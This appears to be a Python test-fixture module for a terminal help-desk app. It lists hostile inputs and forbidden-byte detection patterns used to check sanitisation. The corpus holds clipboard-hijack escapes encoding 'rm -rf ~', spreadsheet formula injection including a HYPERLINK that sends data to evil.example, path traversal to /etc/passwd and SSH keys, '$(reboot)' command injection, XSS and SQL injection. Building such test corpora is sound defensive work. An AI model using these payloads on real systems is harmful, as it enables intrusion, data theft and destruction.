"""Text as people who mean harm, and programs that mean none, send it; and what no terminal may receive."""

from __future__ import annotations

import re
from collections.abc import Iterator

_MARKUP = (
    "[/x]",
    "[/]",
    "[INC-12] printer offline",
    "[@click=app.quit]click me[/]",
    "[@click=app.quit]unclosed",
    "[link=file:///etc/passwd]report[/link]",
    "[b]bold[/b] [red on white]loud[/]",
    "[$error]theme[/] $name ${name} {name} {0.__class__} %s %(name)s",
    "\\[escaped] \\\\[twice] \\",
    "[[double]] [] [ ] ] [",
    "[/bold][/italic][not b]",
    "[#zzzzzz]no such colour[/]",
    "[on]",
    "[b",
    'x="[y]" \'[z\' [a="',
    ":smile: :warning: :no_such_emoji:",
)

_SEQUENCES = (
    "\x1b[31mred\x1b[0m",
    "\x1b[38;5;213mpink",
    "\x1b[2J\x1b[Hcleared",
    "\x1b[?1049lleft the screen",
    "\x1b[6n",
    "\x1b[21t",
    "\x1b]0;owned title\x07",
    "\x1b]2;owned title\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b]52;c;cm0gLXJmIH4=\x1b\\",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]1337;File=inline=1:AAAA\x07",
    '\x1bP$q"p\x1b\\',
    "\x1b_Gf=100;AAAA\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bc",
    "\x1b#8",
    "\x1b",
    "\x9b31mC1 CSI",
    "\x9d52;c;cm0=\x9c",
    "\x90dcs\x9c \x85next line",
    "\x0e line drawing \x0f",
    "bell \x07 backspace \x08\x08\x08 delete \x7f",
    "form\x0cfeed vertical\x0btab",
)

_CONTROLS = (
    "NUL \x00 in the middle",
    "\x00",
    "one\ttab\t\tthree",
    "CRLF\r\nline\rovertype",
    "subject\r\nBcc: everyone@example.org",
    "subject\nX-Injected: yes",
    "\n\n\n",
    "line\u2028separator paragraph\u2029separator",
    "\ufeffbyte order mark \ufeff",
    "lone \ud800 high \udfff low \udc80 surrogates",
    "invoice\u202efdp.exe",
    "\u202aLRE \u202bRLE \u202dLRO \u202cPDF \u2066LRI \u2067RLI \u2068FSI \u2069PDI",
    "marks \u200eLRM \u200fRLM \u061cALM",
    "\u206a\u206fdeprecated",
)

_WIDTHS = (
    "Z" + "\u0300\u0316\u0334\u0359" * 40 + "algo",
    "\u0301\u0302leading marks",
    "q\u0323\u0307 composed and e\u0301 decomposed",
    "\u1112\u1161\u11ab\u1100\u1173\u11af decomposed Hangul",
    "漢字かな交じり文",
    "ﾊﾝｶｸ ＺＥＮＫＡＫＵ\u3000space",
    "family 👨\u200d👩\u200d👧\u200d👦 thumbs 👍🏽 flag 🇩🇪 keycap 1\ufe0f\u20e3",
    "heart ❤\ufe0f warning ⚠\ufe0f rainbow 🏳\ufe0f\u200d🌈",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f tag flag",
    "שלום עולם",
    "مرحبا بالعالم ١٢٣",
    "می\u200cخواهم",
    "क्षत्रिय हिन्दी கணினி ภาษาไทย",
    "zero\u200bwidth\u2060joiner\u00adsoft hyphen",
    "\u115f\u1160\u3164\uffa0blank fillers",
    "ﷺ ௵ 𒐫 ꧅",
    "\ue000 private \uffff not a character \U0010ffff",
    "W" * 5000,
    "漢" * 5000,
    "word " * 4000,
)

_FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
)

_NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "/etc/shadow",
    "C:\\autoexec.bat",
    "-rf",
    "--output=/etc/passwd",
    "~/.ssh/authorized_keys",
    ".bashrc",
    "CON",
    "nul.txt",
    "COM1.log",
    "report.pdf          .exe",
    "trailing. . .",
    "name:stream.txt",
    "$(reboot) `reboot` ; reboot | reboot & reboot",
    "x" * 400 + ".pdf",
    "漢" * 400 + ".pdf",
)

_PROGRAMS = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<!--[if mso]><style>td{}</style><![endif]-->&nbsp;&#27;[31m",
    "'; DROP TABLE ticket; --",
    "%' OR '1'='1 _ \\_ \\%",
    '"quoted" AND OR NOT NEAR( * ^ -col:x',
    "null None NaN Infinity 1e999 -0",
    "",
    " ",
)

HOSTILE: tuple[str, ...] = (
    *_MARKUP,
    *_SEQUENCES,
    *_CONTROLS,
    *_WIDTHS,
    *_FORMULAS,
    *_NAMES,
    *_PROGRAMS,
)
"""Every hostile text, for subjects, names, bodies and file names alike."""

FILE_NAMES: tuple[str, ...] = _NAMES
FORMULAS: tuple[str, ...] = _FORMULAS

FORBIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]"  # C0 but tab and the line ends; DEL
    "|[\x80-\x9f]"  # C1
    "|[\u061c\u200e\u200f\u202a-\u202e\u2066-\u206f]"  # bidirectional
    "|[\u2028\u2029\ufeff\ud800-\udfff]"  # separators, byte order mark, lone surrogates
)
"""What no text from outside may still contain where it is printed, mailed or put into a widget."""

FORBIDDEN_BYTES = re.compile(
    # Textual writes sequences of its own, so these are the ones that only the corpus asks for.
    rb"[\x00-\x06\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f]"
    rb"|\x1b\[(?:31m|38;5;213m|6n|21t)"
    rb"|\x1b\](?:0|2|8|52|1337);"
    rb"|\x1b[P_^](?:\$q\"p|Gf=100|private)"
    rb"|\x1b[c#]"
    rb"|\xc2[\x80-\x9f]"
    rb"|\xd8\x9c|\xe2\x80[\x8e\x8f\xa8-\xae]|\xe2\x81[\xa6-\xaf]|\xef\xbb\xbf|\xed[\xa0-\xbf]"
)
"""What of it no terminal may receive, for the raw bytes that a pseudo-terminal read from a running desk.

For what is drawn once the program has started; while starting and leaving, Textual queries the terminal.
A desk in truecolor never writes `ESC [ 31 m` of its own.
"""


def marker(index: int) -> str:
    """A word that survives every widget and every cleaning, and names one text of the corpus."""
    return f"mk{index:03d}q"


def marked() -> Iterator[tuple[str, str]]:
    """Each hostile text behind a marker, so that a test can prove that the text was on the screen at all."""
    for index, text in enumerate(HOSTILE):
        yield marker(index), f"{marker(index)} {text}"
